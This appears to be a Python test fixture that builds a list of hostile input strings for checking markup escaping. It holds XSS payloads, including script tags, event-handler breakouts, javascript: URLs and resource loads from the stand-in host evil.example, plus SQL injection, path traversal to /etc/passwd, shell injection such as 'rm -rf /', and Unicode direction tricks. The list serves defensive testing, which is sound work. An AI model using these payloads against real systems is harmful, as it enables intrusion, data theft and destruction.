"""Texts that were made to break out of where they stand: markup, attributes, entities, encodings, directions."""


def texts():
    """Each of them can stand in a header field and in JSON: no NUL, no line end."""
    handlers = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"]
    tags = ["img src=x", "svg", "body", "input autofocus", "details open", "video", "iframe", "math", "marquee", "a href=#"]
    found = [
        "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt/x>alert(1)</sCrIpT>", "<script src=//evil.example/x></script>",
        "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "` onmouseover=alert(1) x=`",
        "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\"/><svg/onload=alert(1)>",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
        "<a href=\"javascript:alert(1)\">x</a>", "<form action=javascript:alert(1)><button>x", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<img src=//evil.example/pixel.gif>", "<object data=//evil.example/x>", "<embed src=//evil.example/x>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
        "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>",
        "x\" style=\"background:url(//evil.example/x)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;b&amp;gt;", "&", "&&amp;",
        "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cscript\\u003e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\u200bscript>alert(1)</script>", "＜script＞alert(1)＜/script＞",
        "\u202etxt.exe", "\u2066right\u2069", "\u200f\u200e\u200b\ufeff", "Z\u0351\u0300\u0301\u0302a\u0310l\u0311g\u0315o\u031b",
        "ﷺ", "𝕳𝖊𝖑𝖑𝖔", "👩‍👩‍👧‍👦🏳️‍🌈", "السلام عليكم", "שלום", "田中さんにあげて下さい", "\u0085\u009f", "Ω≈ç√∫˜µ≤≥÷", "１２３", "ẞ",
        "' OR 1=1 --", "1;DROP TABLE users", "../../../etc/passwd", "/dev/null; rm -rf /", "$(touch /tmp/x)", "`id`", "| cat",
        "NaN", "null", "undefined", "true", "-1", "1e309", "0x7fffffff", "{}", "[]", "\"", "'", "<", ">", "<>", "<!--", "<![CDATA[",
        "<?xml version=\"1.0\"?>", "<!DOCTYPE html>", "a" * 400, "<b>" * 60, "&" * 200, "\t tab", "a=b&c=d#e?f", "%", "%00", "%s%s%n",
    ]
    for index, tag in enumerate(tags):
        handler = handlers[index % len(handlers)]
        found.append(f"<{tag} {handler}=alert({index})>")
        found.append(f"<{tag}/{handler}=\"alert({index})\"//")
    return found
